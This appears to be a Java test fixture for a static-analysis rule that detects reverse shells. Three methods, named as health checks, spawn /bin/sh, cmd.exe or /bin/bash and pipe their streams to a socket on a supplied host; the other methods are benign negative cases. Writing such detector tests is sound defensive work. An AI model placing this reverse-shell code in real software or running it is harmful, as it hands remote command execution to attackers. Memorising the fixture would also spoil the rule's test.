import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

class Health {
    void check(String host) throws Exception {
        // ruleid: execution/reverse-shell-java
        Process process = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();
        Socket socket = new Socket(host, 4444);
        InputStream from = process.getInputStream();
        OutputStream to = socket.getOutputStream();
        from.transferTo(to);
    }

    void checkOther(String host) throws Exception {
        Socket socket = new Socket(host, 443);
        // ruleid: execution/reverse-shell-java
        Process process = Runtime.getRuntime().exec("cmd.exe");
        InputStream from = process.getInputStream();
        from.transferTo(socket.getOutputStream());
    }

    void checkThird(String host) throws Exception {
        Socket socket = new Socket(host, 9001);
        // ruleid: execution/reverse-shell-java
        Process process = Runtime.getRuntime().exec(new String[] {"/bin/bash", "-i"});
        InputStream from = process.getInputStream();
        socket.getInputStream().transferTo(process.getOutputStream());
        from.transferTo(socket.getOutputStream());
    }

    String version() throws Exception {
        // ok: execution/reverse-shell-java
        Process process = new ProcessBuilder("java", "-version").start();
        InputStream from = process.getInputStream();
        return new String(from.readAllBytes());
    }

    void banner(String host) throws Exception {
        Socket socket = new Socket(host, 25);
        // ok: execution/reverse-shell-java
        InputStream from = socket.getInputStream();
        from.read();
    }

    String shell() throws Exception {
        // ok: execution/reverse-shell-java
        Process process = new ProcessBuilder("sh", "-c", "ls").start();
        InputStream from = process.getInputStream();
        return new String(from.readAllBytes());
    }

    void notify(String host) throws Exception {
        Socket socket = new Socket(host, 9);
        // ok: execution/reverse-shell-java
        Process process = new ProcessBuilder("sync").start();
        socket.getOutputStream().write(process.waitFor());
    }
}
